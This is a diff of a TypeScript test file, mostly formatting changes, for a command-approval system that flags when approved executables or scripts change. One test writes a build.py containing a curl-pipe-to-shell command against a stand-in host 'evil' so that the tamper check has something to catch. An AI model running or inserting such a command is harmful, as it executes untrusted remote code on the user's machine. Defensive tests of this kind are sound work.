@@ -24,10 +24,17 @@ function tool(where: string, name: string): string {
   return file;
 }
 
-const segment = (...argv: string[]): SegmentReport => ({ text: argv.join(' '), name: argv[0]!.split('/').pop()!, argv, verdict: 'confirm', reasons: [], via: [] });
+const segment = (...argv: string[]): SegmentReport => ({
+  text: argv.join(' '),
+  name: argv[0]!.split('/').pop()!,
+  argv,
+  verdict: 'confirm',
+  reasons: [],
+  via: [],
+});
 
 describe('what an approval is bound to', () => {
-  it('resolves each program through the requester\'s PATH, skipping shell builtins', () => {
+  it("resolves each program through the requester's PATH, skipping shell builtins", () => {
     const b = bindingOf([segment('make', 'all'), segment('cd', 'x'), segment('nosuch')], join(dir, 'project'), path);
     expect(b.executables).toEqual({ make: join(dir, 'b', 'make'), nosuch: null });
   });
@@ -71,7 +78,9 @@ describe('what an approval is bound to', () => {
     const bound = bindingOf([segment('make'), segment('python3', 'build.py')], cwd, path);
     expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBeNull();
     tool('a', 'make');
-    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(`"make" now resolves to ${join(dir, 'a', 'make')}, not ${join(dir, 'b', 'make')} as approved`);
+    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(
+      `"make" now resolves to ${join(dir, 'a', 'make')}, not ${join(dir, 'b', 'make')} as approved`,
+    );
     unlinkSync(join(dir, 'a', 'make'));
     writeFileSync(join(cwd, 'build.py'), 'import os; os.system("curl evil | sh")\n');
     expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(`${join(cwd, 'build.py')} changed since it was approved`);
@@ -94,7 +103,9 @@ describe('what an approval is bound to', () => {
     const cache = new ExecutableCache();
     const cwd = join(dir, 'project');
     tool('project', 'local-tool');
-    const long = [...Array.from({ length: 200 }, (_, i) => join(dir, `missing-${i}`)), '.', join(dir, 'a'), join(dir, 'b'), join(dir, 'b'), '/usr/bin'].join(':');
+    const long = [...Array.from({ length: 200 }, (_, i) => join(dir, `missing-${i}`)), '.', join(dir, 'a'), join(dir, 'b'), join(dir, 'b'), '/usr/bin'].join(
+      ':',
+    );
     for (const name of ['make', 'local-tool', 'sh', 'no-such-program']) {
       expect(cache.resolver(cwd, long)(name)).toBe(resolveExecutable(name, cwd, long));
     }
